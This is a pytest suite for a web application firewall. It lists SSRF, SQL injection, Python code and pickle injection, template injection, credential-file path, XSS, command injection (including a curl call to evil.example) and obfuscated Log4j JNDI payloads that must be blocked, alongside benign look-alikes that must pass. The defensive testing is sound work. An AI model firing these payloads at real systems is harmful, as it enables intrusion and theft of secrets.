# ruff: noqa: E501 - payload lists read best one line each
"""Round-3 detector families: each attack here passed the rules before, each benign twin passes now.

Families: SSRF spellings (ideographic dots, loopback domains, NAT64, parser
confusion with several ``@``, redirect chains, UNC paths, metadata hosts of
more clouds, oddly spelt internal URLs in any header); SQL injection per
dialect (comment-split UNION, a quote or number closed then a condition and a
comment or a JSON operator, subqueries, constant conditionals, ``1 or true``);
Python code injection (``__import__``, object-graph dunders, format fields,
protocol-0 pickles); sensitive files as values; JavaScript string break-out.
The benign twins are what blocked support tickets, CRUD values, passwords and
reviews in the fourth tuning batch.
"""

from __future__ import annotations

from urllib.parse import quote

import pytest

from ramparts.gateway.waf.engine import Waf
from ramparts.gateway.waf.request import WafRequest
from tests.gateway.waf.waf_requests import header_request as _header
from tests.gateway.waf.waf_requests import json_request, query_request

WAF = Waf()


def _json(value: str, field: str = "f") -> WafRequest:
    return json_request(value, field, deep=True)


def _query(value: str) -> WafRequest:
    return query_request(value)


ATTACKS = {
    "ssrf": [
        "http://127\u30020\u30020\u30021/", "http://vcap.me/", "http://admin.lvh.me:3000/",
        "http://[64:ff9b::a9fe:a9fe]/latest/meta-data/", "http://foo@127.0.0.1:80@x.example/",
        "https://x.example/r?to=http%3A%2F%2F127.0.0.1%3A6379%2F", "\\\\169.254.169.254\\share",
        "http://7f000001.nip.io/", "http://192.0.0.192/latest/", "http://metadata.tencentyun.com/latest/",
    ],
    "sqli": [
        "1 union%23foo%0aselect 1,2", "' OR data->>'role'='admin'--", "x' OR profile->'flags'->>'admin'='true",
        "10 OFFSET (SELECT COUNT(*) FROM users)", "$$ || (SELECT current_user) || $$", "IF(1=1,name,price)",
        "1 or true", "' AND 1=DBMS_XMLGEN.getxml('select 1 from dual')--", "x' AND email IS NULL; --",
    ],
    "code_injection": [
        "getattr(__import__('os'),'system')('id')", "().__class__.__bases__[0].__subclasses__()",
        "handler.__code__.co_consts", "importlib.import_module('os').system('id')", "cos\nsystem\n(S'id'\ntR.",
    ],
    "ssti": ["{0.__class__}", "{user.__init__.__globals__[SECRET_KEY]}", "{app.config[SECRET_KEY]}", "%(__class__)s"],
    "path_traversal": ["/home/app/.aws/credentials", "/app/.env", "/proc/self/cwd/app.py", "/.well-known/../etc/passwd"],
    "xss": ["';alert(String.fromCharCode(88,83,83))//", "'-alert(1)-'"],
    # a data value before the separator is still an injection (twins of command lines below)
    "command_injection": ["photo.jpg; curl -I evil.example", "report.pdf && sleep 5", "x$(ls -la)", "in$(id)"],
}
CASES = [(category, payload) for category, payloads in ATTACKS.items() for payload in payloads]


@pytest.mark.parametrize(("category", "payload"), CASES)
def test_attack_family_is_blocked_in_a_deep_json_field_and_a_query(category: str, payload: str) -> None:
    for req in (_json(payload), _query(payload)):
        verdict = WAF.inspect(req)
        assert verdict.blocked, (payload, verdict.to_dict())
        assert category in {m.category for m in verdict.matches}, verdict.to_dict()


BENIGN = [
    # SSRF twins: the same shapes pointing outside
    "https://x.example/r?to=https://example.org/welcome", "http://a@example.com/", "\\\\fileserver\\share\\q3.xlsx",
    "http://7f000001.example.com/", "https://vcap.me.example.org/", "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/",
    # SQL twins: CRUD values, passwords, maths
    "50% off -- today only!", "sqrt(2) \u2248 1.414", "1 or 2 boxes", "O'Brien's Pub -- 'The Snug'",
    "`;pC.7Yg0xR'{Bf'?", "10\"#rxd]vSIHeHRw}}kX<l", "Tried and True",
    # Python twins
    "Prefer `type(self).__name__` over `self.__class__.__name__` here.", "Hello {0}, your order {1} has shipped.",
    "Use `'{name}'.format(name=name)` or an f-string; `%` formatting is legacy.",
    "Prefer `subprocess.run([\"ls\", path])` over os.system(f\"ls {path}\") -- the latter is a shell injection risk.",
    # JavaScript twin
    "It's 5 o'clock; alert the team",
]
# Support tickets are bodies (a query naming ~/.ssh/ is a scanner probe, on purpose).
TICKETS = [
    "Resolution: ran tail -n 200 /var/log/syslog on prod-2, service back.", "Why does cat /etc/hosts hang for 30s?",
    "Workaround: chmod 600 ~/.ssh/id_rsa", "$ cat /etc/hosts\nbash: command not found",
    "Customer reports: \"curl -fsSL https://get.docker.com | sh\" returns permission denied on their box.",
    "Output of `wget https://github.com/org/tool/releases/download/v1.2/tool.tar.gz`:\n```\nok\n```",
    "> powershell -Command Get-Service\n\nThat worked, thanks!",
    # whole command lines, as tickets quote them
    "sleep 5 && curl -I localhost", "Workaround: python manage.py migrate; python manage.py collectstatic",
    "Tried wget -qO- https://deb.nodesource.com/setup_20.x | sudo -E bash -", "for f in $(ls *.log); do gzip $f; done",
    "Run: systemctl status nginx | head", "Workaround: psql -c 'select * from pg_stat_activity'", "Ops note: dmesg | tail", "python -c \"import os; print(os.getcwd())\"", "Invoke-WebRequest https://example.com -OutFile x.zip",
]


@pytest.mark.parametrize("value", BENIGN)
def test_benign_twin_passes(value: str) -> None:
    for req in (_json(value, "comment"), _query(value)):
        verdict = WAF.inspect(req)
        assert not verdict.blocked, (value, verdict.to_dict())


@pytest.mark.parametrize("text", TICKETS)
def test_support_ticket_quoting_shell_passes(text: str) -> None:
    verdict = WAF.inspect(_json(text, "comment"))
    assert not verdict.blocked, (text, verdict.to_dict())


def test_oddly_spelt_or_metadata_url_in_any_header_is_blocked() -> None:
    for value in ("http://169.254.169.254/metadata/v1.json", "http://2130706433/admin",
                  "http://[::ffff:7f00:1]/", "http://127.0.0.1.nip.io/"):
        verdict = WAF.inspect(_header("referer", value))
        assert verdict.blocked, value
        assert "ssrf-header-url" in [m.rule for m in verdict.matches], value


def test_a_developers_localhost_referer_passes() -> None:
    for value in ("http://localhost:3000/orders?page=2", "http://127.0.0.1:8080/", "http://[::1]:5173/"):
        assert not WAF.inspect(_header("referer", value)).blocked, value


def test_a_redirect_chain_only_counts_when_it_ends_inside() -> None:
    assert WAF.inspect(_json("https://x.example/go?next=http://localhost:8500/v1/agent/self")).blocked
    assert not WAF.inspect(_json("https://x.example/go?next=https://shop.example/cart")).blocked


@pytest.mark.parametrize("payload", [
    "${jnd${upper:\u0131}:ldap://x.example/a}", "${jndi:ldap://x.example/a", "%u0024%u007Bjndi:ldap://x.example/a%u007D",
    "${${ctx:unset:-j}ndi:ldap://x.example/a}", "${jndi:corbaname::x.example#a}",
])
@pytest.mark.parametrize("header", ["user-agent", "referer", "x-api-version", "authorization", "cookie"])
def test_log4j_obfuscations_in_every_header_a_handler_may_log(payload: str, header: str) -> None:
    value = f"sid={quote(payload, safe='')}" if header == "cookie" else payload
    assert WAF.inspect(_header(header, value)).blocked, (header, payload)
